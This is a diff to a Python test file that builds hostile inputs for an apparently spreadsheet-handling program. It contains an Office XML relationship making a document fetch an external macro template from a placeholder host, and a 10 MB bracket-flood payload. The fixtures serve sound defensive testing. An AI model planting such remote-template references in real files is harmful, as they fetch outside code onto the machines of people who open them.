@@ -14,9 +14,10 @@ from tests.test_transcripts import document
 LONGEST = 30_000  # of a cell that a workbook can hold
 # What opening it would have the whole file fetched from elsewhere.
 REACHES_OUT = (
-    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="r9" TargetMode="External" '
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-    b'Target="https://canary.example/x.dotm" TargetMode="External"/></Relationships>'
+    b'Target="https://canary.example/x.dotm"/></Relationships>'
 )
 MORE = {
     "10 MB of brackets": b"[" * (10 * 1024 * 1024 - 1),
@@ -57,7 +58,7 @@ def hostile_files(every=1):
 
 
 def cells_of(kind, start):
-    """Return rows for a sheet of a kind: one for each column, with an entry in it and the rest as it should be."""
+    """Return rows for a sheet of a kind: in each, another column holds an entry and the rest is good."""
     turn = count(start)
     good = {name: values[0] for name, values in _good(kind).items()}
     return [good | {column.label: _entry(next(turn))} for column in COLUMNS[kind]]
